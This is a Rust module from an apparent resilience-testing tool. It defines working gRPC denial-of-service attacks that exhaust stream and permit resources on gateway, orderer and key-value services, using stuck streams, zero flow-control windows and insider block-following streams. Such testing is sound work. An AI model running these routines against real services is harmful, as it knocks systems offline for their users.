//! Attacks with streams: stuck streams, receivers that read nothing, and one member that takes every permit.

use std::io;
use std::sync::Arc;

use bytes::Bytes;

use super::{Attack, AttackContext, Breach, attack, hold};
use crate::target::TargetKind;
use crate::wire::fabric::SeekStart;
use crate::wire::grpc::{FlowControlWindows, framed, head};
use crate::wire::protobuf::ProtobufMessage;

const GRPC: &[TargetKind] = &[TargetKind::Gateway, TargetKind::Orderer];

pub fn attacks() -> Vec<Attack> {
    vec![
        attack!("stuck-streams", "takes no answers, sends on", GRPC, 20.0 "connections of 8 streams", stuck),
        attack!("window-zero", "garbage requests, takes no refusal", GRPC, 20.0 "connections of 100 streams", window_zero),
        attack!("members-streams", "a member takes all streams", GRPC, 10.0 "connections of 100 streams", members),
        attack!("members-deaf", "a member follows blocks, takes none", GRPC, 10.0 "connections of 100 streams", deaf),
        attack!("events", "garbage event streams", &[TargetKind::Gateway], 20.0 "connections of 100 streams", events),
        attack!("watches", "watches keys, takes nothing", &[TargetKind::Kv], 30.0 "connections of 100 streams", watches),
    ]
}

const ZERO: FlowControlWindows = FlowControlWindows { stream: Some(0) };

fn deliver(kind: TargetKind) -> &'static str {
    match kind {
        TargetKind::Orderer => "/orderer.AtomicBroadcast/Deliver",
        _ => "/protos.Deliver/Deliver",
    }
}

/// A call with a refused message, followed by more bytes that the server does not read.
async fn stuck(scene: Arc<AttackContext>) -> io::Result<Breach> {
    scene
        .each(200, |scene, _| async move {
            let channel = scene.grpc(ZERO).await?;
            scene.pace.connected();
            let mut tasks = tokio::task::JoinSet::new();
            for _ in 0..8 {
                let mut stream = channel.open(deliver(scene.port.kind), &[]).await?;
                let scene = Arc::clone(&scene);
                tasks.spawn(async move {
                    stream.send(framed(b"garbage")).await?;
                    stream.send(Bytes::copy_from_slice(&head(1 << 20))).await?;
                    for _ in 0..64 {
                        stream.send(Bytes::from_static(&[0x55; 16 << 10])).await?;
                        scene.pace.sent(16 << 10);
                    }
                    hold(stream).await
                });
            }
            hold((channel, tasks)).await
        })
        .await
}

async fn window_zero(scene: Arc<AttackContext>) -> io::Result<Breach> {
    garbage_streams(scene, deliver).await
}

async fn events(scene: Arc<AttackContext>) -> io::Result<Breach> {
    garbage_streams(scene, |_| "/gateway.Gateway/ChaincodeEvents").await
}

async fn garbage_streams(scene: Arc<AttackContext>, path: fn(TargetKind) -> &'static str) -> io::Result<Breach> {
    scene
        .each(200, move |scene, _| async move {
            let channel = scene.grpc(ZERO).await?;
            scene.pace.connected();
            let mut streams = Vec::new();
            for _ in 0..100 {
                let mut stream = channel.open(path(scene.port.kind), &[]).await?;
                stream.send(framed(b"garbage")).await?;
                streams.push(stream);
            }
            hold((channel, streams)).await
        })
        .await
}

/// A user of another organisation waits for blocks that do not come.
async fn members(scene: Arc<AttackContext>) -> io::Result<Breach> {
    // A start beyond the last block would be refused if it named a block; `Newest` does not.
    follow(scene, SeekStart::Newest, FlowControlWindows::default()).await
}

/// The same user asks for all blocks and takes none.
async fn deaf(scene: Arc<AttackContext>) -> io::Result<Breach> {
    follow(scene, SeekStart::Block(0), ZERO).await
}

async fn follow(scene: Arc<AttackContext>, start: SeekStart, windows: FlowControlWindows) -> io::Result<Breach> {
    let user = scene.target.user(scene.insider())?;
    scene
        .each(60, move |scene, _| {
            let user = user.clone();
            async move {
                let channel = scene.grpc(windows).await?;
                scene.pace.connected();
                let mut streams = Vec::new();
                for _ in 0..100 {
                    let mut stream = channel.open(deliver(scene.port.kind), &[]).await?;
                    stream.send(framed(&user.seek(scene.target.channel(), start))).await?;
                    streams.push(stream);
                }
                hold((channel, streams)).await
            }
        })
        .await
}

async fn watches(scene: Arc<AttackContext>) -> io::Result<Breach> {
    scene
        .each(60, |scene, _| async move {
            let channel = scene.grpc(ZERO).await?;
            scene.pace.connected();
            let mut streams = Vec::new();
            for _ in 0..100 {
                let mut stream = channel.open("/heddle.kv.KeyValues/Watch", &[]).await?;
                stream.send(framed(&ProtobufMessage::new().bytes(1, "").done())).await?;
                streams.push(stream);
            }
            hold((channel, streams)).await
        })
        .await
}
